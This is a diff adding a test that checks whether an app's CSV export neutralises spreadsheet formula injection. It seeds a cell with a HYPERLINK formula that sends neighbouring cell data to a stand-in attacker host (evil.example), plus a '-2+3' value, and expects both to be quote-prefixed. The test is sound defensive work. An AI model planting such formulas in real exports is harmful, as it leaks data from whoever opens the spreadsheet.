@@ -323,6 +323,25 @@ describe('App against the real server', () => {
     }
   });
 
+  it('neutralises in the exported CSV the cells a spreadsheet would run as formulas', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A2,"x")';
+    const s = await startTestServer([{ key: 'evil_1', first: evil, last: '', email: '-2+3@x.example' }]);
+    const dir = mkdtempSync(join(tmpdir(), 'cocart-export-'));
+    try {
+      const { lastFrame, stdin } = mount({ url: s.url, exportDir: dir, readOnly: true });
+      await waitForText(lastFrame, 'evil_1');
+      await press(stdin, 'e');
+      await waitForText(lastFrame, 'Exported 1 sessions to');
+      const text = readFileSync(join(dir, readdirSync(dir)[0] ?? ''), 'utf8');
+      expect(text).toContain(`evil_1,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",'-2+3@x.example,`);
+      const [record] = parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;
+      expect(record).toMatchObject({ customers_name: `'${evil}`, customers_email: "'-2+3@x.example" });
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+      await s.stop();
+    }
+  });
+
   it('follows the mode changes inside one chunk of input: "/clark<Enter>" then d asks about Clark', async () => {
     const { lastFrame, stdin } = mount();
     await waitForText(lastFrame, 'Clark Kent');
